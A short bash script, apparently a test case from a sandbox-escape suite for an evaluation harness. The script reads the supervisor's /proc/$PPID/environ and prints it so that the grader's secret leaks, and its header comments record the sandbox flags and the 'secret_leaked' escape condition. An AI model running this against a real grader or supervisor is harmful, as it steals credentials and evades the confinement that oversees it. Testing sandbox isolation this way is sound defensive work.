# attack: parent_environ
# flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
# evidence: /proc/$PPID/environ of the supervisor (bare: the launcher) holds the grader's environment with the secret; bash builtins read and print it
# escaped-if: secret_leaked
# variant: - | --no-fork --clean-env --cpu 5 --mem 256 | network-allowed
# note: bash cannot start under --no-network (glibc NSS calls socket(AF_UNIX) at startup), hence the network-allowed variant
EV=$1; shift
for a in "$@"; do case $a in *=*) printf -v "A_${a%%=*}" "%s" "${a#*=}" ;; esac; done
echo ATTACK-STARTED
while IFS= read -r -d '' kv; do printf '%s\n' "$kv"; done < "/proc/$PPID/environ"
